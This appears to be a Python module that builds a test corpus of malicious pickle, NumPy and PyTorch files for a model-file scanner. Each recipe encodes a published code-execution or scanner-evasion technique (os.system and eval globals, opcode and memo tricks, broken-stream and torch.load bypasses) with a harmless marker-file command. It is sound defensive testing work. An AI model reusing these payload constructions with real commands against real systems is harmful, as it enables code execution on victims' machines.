"""The malicious half of the corpus: techniques from the public record, harmless payloads.

Every payload only creates its own marker file (a path inside the corpus's marker folder); none
touches anything else or the network. Each builder returns (file name, bytes, loader), where
loader is how a victim opens it: "torch" (torch.load(weights_only=False)), "pickle"
(pickle.load) or "numpy" (np.load(allow_pickle=True)).

Sources are named by technique and tool: the picklescan / modelscan / fickling deny-lists and
advisories, ReversingLabs' "nullifAI" report (Feb 2025), JFrog's and Sonatype's picklescan
bypass reports (ZIP CRC and header tricks; CVE-2025-1944, CVE-2025-1945), Trail of Bits'
fickling write-ups (BUILD/__setstate__, polyglots), and PyTorch's own CVE-2025-32434.
"""

from __future__ import annotations

import marshal
import re
import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from tests.scanner.asm import Call, Global, assemble, body

G = Global
MAGIC = 0x1950A86A20F9469CFC6C
SAFE_PATH = re.compile(r"[A-Za-z0-9_./-]+")


@dataclass
class Recipe:
    name: str
    source: str
    build: Callable[["Ctx"], tuple[str, bytes, str]]


@dataclass
class Ctx:
    folder: Path      # where corpus files go (helper files too)
    marker: Path      # this variant's marker

    @property
    def sh(self) -> str:
        assert SAFE_PATH.fullmatch(str(self.marker)), self.marker
        return f"touch {self.marker}"

    @property
    def py(self) -> str:
        return f"open({str(self.marker)!r}, 'w').write('fired')"

    def helper(self, name: str, data: bytes) -> Path:
        path = self.folder / "helpers" / f"{self.marker.name}-{name}"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return path


RECIPES: list[Recipe] = []


def recipe(name: str, source: str):
    def register(fn):
        RECIPES.append(Recipe(name, source, fn))
        return fn
    return register


def system(ctx: Ctx, *, stack: bool = False) -> Call:
    return Call(G("posix", "system", stack), ctx.sh)


def pkl(name, value, protocol=2):
    return (f"{name}.pkl", assemble(value, protocol), "pickle")


# --- plain pickles: dangerous globals ------------------------------------------------------

@recipe("p0-text-global-posix-system", "picklescan/modelscan deny-list: posix; protocol 0")
def _(c):
    return "p0.pkl", b"cposix\nsystem\n(S'" + c.sh.encode() + b"'\ntR.", "pickle"


@recipe("p2-os-system", "the canonical __reduce__ payload (every scanner's first test)")
def _(c):
    return pkl("p2", Call(G("os", "system"), c.sh))


@recipe("p4-stack-global-os-system", "protocol 4 STACK_GLOBAL import")
def _(c):
    return pkl("p4", Call(G("os", "system", True), c.sh), 4)


@recipe("p5-framed-posix-system", "protocol 5 with a FRAME around the payload")
def _(c):
    inner = body(Call(G("posix", "system", True), c.sh)) + b"."
    return "p5.pkl", b"\x80\x05\x95" + len(inner).to_bytes(8, "little") + inner, "pickle"


@recipe("builtins-eval", "deny-lists: builtins.eval")
def _(c):
    return pkl("eval", Call(G("builtins", "eval"), c.py))


@recipe("builtins-exec", "deny-lists: builtins.exec")
def _(c):
    return pkl("exec", Call(G("builtins", "exec"), c.py))


@recipe("builtins-compile-exec", "deny-lists: builtins.compile feeding exec")
def _(c):
    return pkl("compile", Call(G("builtins", "exec"), Call(G("builtins", "compile"), c.py, "<x>",
                                                            "exec")))


@recipe("subprocess-call", "deny-lists: subprocess")
def _(c):
    return pkl("subprocess", Call(G("subprocess", "call"), [shutil.which("touch"),
                                                             str(c.marker)]))


@recipe("subprocess-getoutput", "deny-lists: subprocess (shell)")
def _(c):
    return pkl("getoutput", Call(G("subprocess", "getoutput"), c.sh))


@recipe("commands-py2-alias", "Python 2 `commands` module, mapped to subprocess by fix_imports")
def _(c):
    return pkl("commands", Call(G("commands", "getoutput"), c.sh))


@recipe("runpy-run-code", "picklescan advisory: runpy._run_code executes a code string")
def _(c):
    return pkl("runpy", Call(G("runpy", "_run_code"), c.py, {}))


@recipe("runpy-run-path", "runpy.run_path executes a Python file")
def _(c):
    script = c.helper("payload.py", c.py.encode())
    return pkl("runpath", Call(G("runpy", "run_path"), str(script)))


@recipe("pty-spawn", "picklescan deny-list: pty.spawn")
def _(c):
    return pkl("pty", Call(G("pty", "spawn"), [shutil.which("touch"), str(c.marker)]))


@recipe("getattr-import-os", "builtins.getattr + __import__ chain (fickling's classic)")
def _(c):
    os_module = Call(G("builtins", "__import__"), "os")
    return pkl("getattr", Call(Call(G("builtins", "getattr"), os_module, "system"), c.sh))


@recipe("importlib-import-module", "importlib.import_module + getattr")
def _(c):
    os_module = Call(G("importlib", "import_module"), "os")
    return pkl("importlib", Call(Call(G("builtins", "getattr"), os_module, "system"), c.sh))


@recipe("operator-attrgetter", "picklescan advisory: operator.attrgetter('system')(os)")
def _(c):
    os_module = Call(G("importlib", "import_module"), "os")
    return pkl("attrgetter", Call(Call(Call(G("operator", "attrgetter"), "system"), os_module),
                                  c.sh))


@recipe("operator-methodcaller", "picklescan advisory: operator.methodcaller")
def _(c):
    os_module = Call(G("importlib", "import_module"), "os")
    return pkl("methodcaller", Call(Call(G("operator", "methodcaller"), "system", c.sh),
                                    os_module))


@recipe("functools-partial", "picklescan advisory: functools.partial(os.system, cmd)")
def _(c):
    return pkl("partial", Call(Call(G("functools", "partial"), G("posix", "system"), c.sh)))


@recipe("pydoc-locate", "picklescan advisory: pydoc.locate resolves any dotted name")
def _(c):
    return pkl("pydoc", Call(Call(G("pydoc", "locate"), "os.system"), c.sh))


@recipe("pickle-loads-nested", "pickle inside a pickle: pickle.loads")
def _(c):
    return pkl("nested", Call(G("pickle", "loads"), assemble(system(c))))


@recipe("_pickle-loads-nested", "pickle inside a pickle through the C module")
def _(c):
    return pkl("cnested", Call(G("_pickle", "loads"), assemble(system(c))))


@recipe("marshal-function", "marshal.loads code object + types.FunctionType")
def _(c):
    code = marshal.dumps(compile(c.py, "<payload>", "exec"))
    func = Call(G("types", "FunctionType"), Call(G("marshal", "loads"), code), {})
    return pkl("marshal", Call(func))


@recipe("timeit-timeit", "picklescan deny-list: timeit executes a statement string")
def _(c):
    return pkl("timeit", Call(G("timeit", "timeit"), c.py, "pass", G("time", "perf_counter"), 1))


@recipe("cprofile-run", "picklescan deny-list: cProfile.run")
def _(c):
    return pkl("cprofile", Call(G("cProfile", "run"), c.py))


@recipe("profile-run", "picklescan deny-list: profile.run")
def _(c):
    return pkl("profile", Call(G("profile", "run"), c.py))


@recipe("ctypes-libc-system", "modelscan deny-list: ctypes; libc system() via CDLL(None)")
def _(c):
    libc = Call(G("ctypes", "CDLL"), None)
    return pkl("ctypes", Call(Call(G("builtins", "getattr"), libc, "system"), c.sh.encode()))


@recipe("os-popen", "deny-lists: os")
def _(c):
    return pkl("popen", Call(G("os", "popen"), c.sh))


@recipe("os-spawnv", "deny-lists: os (spawn family)")
def _(c):
    touch = shutil.which("touch")
    return pkl("spawnv", Call(G("os", "spawnv"), 0, touch, ["touch", str(c.marker)]))


@recipe("os-makedirs", "file-system gadget: os.makedirs")
def _(c):
    return pkl("makedirs", Call(G("os", "makedirs"), str(c.marker)))


@recipe("shutil-copyfile", "picklescan deny-list: shutil (arbitrary file write)")
def _(c):
    source = c.helper("source.txt", b"copied\n")
    return pkl("shutil", Call(G("shutil", "copyfile"), str(source), str(c.marker)))


@recipe("builtins-open", "deny-lists: builtins.open (file write)")
def _(c):
    return pkl("open", Call(G("builtins", "open"), str(c.marker), "w"))


@recipe("distutils-write-file", "picklescan deny-list: distutils.file_util.write_file")
def _(c):
    return pkl("distutils", Call(G("distutils.file_util", "write_file"), str(c.marker), []))


@recipe("logging-filehandler", "a module on no deny-list: logging.FileHandler creates a file")
def _(c):
    return pkl("logging", Call(G("logging", "FileHandler"), str(c.marker)))


@recipe("zipfile-writer", "a module on no deny-list: zipfile.ZipFile(path, 'w')")
def _(c):
    return pkl("zipwriter", Call(G("zipfile", "ZipFile"), str(c.marker), "w"))


@recipe("venv-create", "picklescan deny-list: venv")
def _(c):
    return pkl("venv", Call(G("venv", "create"), str(c.marker)))


@recipe("pathlib-dotted-name", "protocol-4 dotted global name: pathlib `Path.touch`")
def _(c):
    path = Call(G("pathlib", "Path", True), str(c.marker))
    return pkl("pathlib", Call(G("pathlib", "Path.touch", True), path), 4)


@recipe("code-interpreter-runsource", "code.InteractiveInterpreter via methodcaller")
def _(c):
    interpreter = Call(G("code", "InteractiveInterpreter"))
    return pkl("code", Call(Call(G("operator", "methodcaller"), "runsource", c.py), interpreter))


# --- opcode tricks -------------------------------------------------------------------------

@recipe("inst-opcode", "protocol-0 INST imports and calls in one opcode")
def _(c):
    return "inst.pkl", b"(S'" + c.sh.encode() + b"'\niposix\nsystem\n.", "pickle"


@recipe("obj-opcode", "protocol-1 OBJ calls the class below the MARK")
def _(c):
    return "obj.pkl", b"(cposix\nsystem\nS'" + c.sh.encode() + b"'\no.", "pickle"


@recipe("newobj-ex-partial", "NEWOBJ_EX builds functools.partial(posix.system, cmd)")
def _(c):
    data = (b"\x80\x04" + body(G("functools", "partial", True))
            + body((G("posix", "system", True), c.sh)) + b"}\x92)R.")
    return "newobj_ex.pkl", data, "pickle"


@recipe("build-setstate-injection", "fickling: BUILD puts __setstate__ in the instance dict")
def _(c):
    data = (b"\x80\x02" + body(Call(G("collections", "OrderedDict")))
            + body({"__setstate__": G("posix", "system")}) + b"b" + body(c.sh) + b"b.")
    return "setstate.pkl", data, "pickle"


@recipe("stack-global-memo-decoys", "picklescan STACK_GLOBAL/memo advisories: operands from memo")
def _(c):
    data = (b"\x80\x04" + body("posix") + b"\x94" + body("system") + b"\x94"
            + body("collections") + body("OrderedDict") + b"00"
            + b"h\x00h\x01\x93" + body((c.sh,)) + b"R.")
    return "memo_decoys.pkl", data, "pickle"


@recipe("stack-global-pop-between", "STACK_GLOBAL operand below a popped decoy")
def _(c):
    data = b"\x80\x04" + body("posix") + body("eval") + b"0" + body("system") + b"\x93" + \
        body((c.sh,)) + b"R."
    return "pop_between.pkl", data, "pickle"


@recipe("stack-global-binstring", "STACK_GLOBAL with Python-2 str opcodes (decoded to str)")
def _(c):
    data = b"\x80\x04U\x05posixU\x06system\x93" + body((c.sh,)) + b"R."
    return "binstring.pkl", data, "pickle"


@recipe("memoize-after-pop", "MEMOIZE stores the stack top, not the previous opcode's argument")
def _(c):
    data = (b"\x80\x04" + body("posix") + body("decoy") + b"0\x94" + body("system") + b"\x94"
            + b"h\x00h\x01\x93" + body((c.sh,)) + b"R.")
    return "memoize_pop.pkl", data, "pickle"


@recipe("dup-memoize", "DUP then MEMOIZE: memo index arithmetic")
def _(c):
    data = (b"\x80\x04" + body("posix") + b"2\x940" + body("system") + b"\x94"
            + b"h\x00h\x01\x93" + body((c.sh,)) + b"R.")
    return "dup_memo.pkl", data, "pickle"


@recipe("ext-code-copyreg", "EXT1 after copyreg.add_extension registers posix.system")
def _(c):
    data = (b"\x80\x02" + body(Call(G("copyreg", "add_extension"), "posix", "system", 240))
            + b"0\x82\xf0" + body((c.sh,)) + b"R.")
    return "ext.pkl", data, "pickle"


@recipe("int-0x10-hides-global", "C strtol reads I0x10; pickletools/pickle.py cannot parse on")
def _(c):
    return "int_hex.pkl", b"\x80\x02I0x10\n0" + body(system(c)) + b".", "pickle"


@recipe("int-nul-hides-global", "C parses the INT argument only up to an embedded NUL")
def _(c):
    return "int_nul.pkl", b"\x80\x02I1\x00junk\n0" + body(system(c)) + b".", "pickle"


@recipe("long-hex-hides-global", "LONG text with a hex literal: C accepts, pickletools does not")
def _(c):
    return "long_hex.pkl", b"\x80\x02L0x10L\n0" + body(system(c)) + b".", "pickle"


@recipe("float-nul-hides-global", "FLOAT text cut at an embedded NUL by the C parser")
def _(c):
    return "float_nul.pkl", b"\x80\x02F1.5\x00junk\n0" + body(system(c)) + b".", "pickle"


@recipe("nullifai-broken-pickle", "ReversingLabs nullifAI: payload first, then a broken stream")
def _(c):
    return "nullifai.pkl", b"\x80\x02" + body(system(c)) + b"0\xff\xfe\xfd", "pickle"


@recipe("plain-pickle-named-pt", "torch.load runs a plain pickle before checking the magic")
def _(c):
    return "plain_named.pt", assemble(system(c)), "torch"
